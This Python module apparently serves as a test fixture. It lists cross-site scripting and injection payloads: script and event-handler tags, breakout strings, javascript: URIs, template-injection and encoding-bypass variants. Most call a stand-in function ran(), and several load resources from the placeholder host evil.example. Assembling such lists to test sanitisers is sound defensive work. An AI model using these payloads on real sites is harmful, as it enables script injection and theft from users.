"""Payloads that run `ran()`, or fetch from evil.example, if they are treated as markup, code or an address."""

from __future__ import annotations

# Payloads that run without a click.
_ELEMENTS = (
    "<script>ran()</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=ran()>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=ran()>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<iframe src=javascript:ran()></iframe>",
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>x</details>",
    "<video><source onerror=ran()></video>",
    "<object data=javascript:ran()></object>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
)
# Text that ends the element, attribute or string that contains the payload.
_BREAKOUTS = (
    "", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "</template>", "-->", "</p></blockquote>",
    "</noscript>", "]]>", '"]]>', "\\u0022>", "</svg></math>",
)  # fmt: skip
_OTHERS = """
javascript:ran()
JaVaScRiPt:ran()
java\tscript:ran()
&#106;avascript:ran()
data:text/html,<script>ran()</script>
vbscript:ran()
[x](javascript:ran())
![x](https://evil.example/a.png)
<javascript:ran()>
" onfocus=ran() autofocus x="
' onfocus=ran() autofocus x='
" style=animation-name:x onanimationstart=ran() x="
`onmouseover=ran()
{{constructor.constructor('ran()')()}}
{{ran()}}
${ran()}
#{ran()}
<%= ran() %>
{% raw %}<script>ran()</script>{% endraw %}
";ran();//
';ran();//
`;ran();//
\\";ran();//
</script><script>ran()</script>
<scr<script>ipt>ran()</scr</script>ipt>
<script/x>ran()</script>
<SCRIPT>ran()</SCRIPT>
<script>ran()//
<script>ran&#40;&#41;</script>
<svg><script>ran()</script></svg>
<svg><script href=data:,ran() /></svg>
<svg><foreignObject><body onload=ran()></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=ran()></svg>#x">
<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>
<math href=javascript:ran()>x</math>
<noscript><p title="</noscript><img src=x onerror=ran()>">
<style><img src="</style><img src=x onerror=ran()>">
<template><img src=x onerror=ran()></template>
<xmp><p title="</xmp><img src=x onerror=ran()>">
<!--><img src=x onerror=ran()>-->
<![CDATA[><img src=x onerror=ran()>]]>
<?xml version="1.0"?><html><script xmlns="http://www.w3.org/1999/xhtml">ran()</script></html>
<meta http-equiv=refresh content="0;url=javascript:ran()">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<base href=https://evil.example/>
<form action=javascript:ran()><input type=submit autofocus onfocus=form.submit()></form>
<button formaction=javascript:ran() autofocus onfocus=click()>x
<isindex type=image src=x onerror=ran()>
<embed src=javascript:ran()>
<applet code=ran()>
<frameset onload=ran()>
<body onload=ran()>
<body onpageshow=ran()>
<marquee onstart=ran()>x</marquee>
<audio src=x onerror=ran()>
<style>@import 'https://evil.example/x.css';</style>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=ran()></b>
<div style="background:url(https://evil.example/a.png)">x</div>
<div style="width:expression(ran())">x</div>
<img src=x:x onerror=ran()//
<img src='x'onerror='ran()'>
<img/src=x/onerror=ran()>
<img src=x onerror\x0c=ran()>
<img src=x oneonerrorrror=ran() onerror=ran()>
<img srcset=x onerror=ran()>
<img src=x onerror=window['ra'+'n']()>
<image src=x onerror=ran()>
<picture><source srcset=https://evil.example/a.png><img></picture>
<a href=javascript:ran() autofocus onfocus=click()>x</a>
<a ping=https://evil.example/ href=#>x</a>
<custom-element onfocus=ran() tabindex=1 autofocus>x</custom-element>
<policy-chat endpoint=https://evil.example></policy-chat>
<portal src=https://evil.example>
<link rel=preload as=image href=https://evil.example/a.png>
<link rel=dns-prefetch href=//evil.example>
<script type=module>ran()</script>
<script type=importmap>{"imports":{"x":"data:,ran()"}}</script>
\uff1cscript\uff1eran()\uff1c/script\uff1e
\ufe64img src=x onerror=ran()\ufe65
%3Cscript%3Eran()%3C/script%3E
&lt;script&gt;ran()&lt;/script&gt;
&amp;lt;img src=x onerror=ran()&amp;gt;
\\x3cscript\\x3eran()\\x3c/script\\x3e
\u2028<img src=x onerror=ran()>
<\x00img src=x onerror=ran()>
<img\u200b src=x onerror=ran()>
+ADw-script+AD4-ran()+ADw-/script+AD4-
""".strip()

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(breakout + element for breakout in _BREAKOUTS for element in _ELEMENTS),
            *_OTHERS.split("\n"),
            "<script\n>ran()</script\n>",
        )
    )
)
